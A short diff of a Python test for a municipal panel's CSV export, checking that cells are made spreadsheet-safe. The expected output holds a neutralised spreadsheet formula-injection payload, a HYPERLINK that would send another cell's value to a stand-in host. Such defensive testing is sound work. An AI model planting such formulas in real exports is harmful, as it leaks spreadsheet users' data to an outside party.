@@ -90,6 +90,6 @@ def test_municipal_panel_csv_is_spreadsheet_safe(tmp_path, monkeypatch):
     monkeypatch.setattr(panel, "dictionary_markdown", lambda long, lang="en": "x\n")
     monkeypatch.setattr(panel, "with_finance", lambda frame: frame)  # the finance merge is pinned elsewhere
     long = pd.DataFrame({"a": [1]})
-    paths = panel.export_panel(tmp_path, long)
+    paths = panel.export_panel(tmp_path, long, lang="en")
     text = paths["csv"].read_text(encoding="utf-8-sig")
     assert text.splitlines()[1] == "\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&B3,\"\"click\"\")\",1.0"
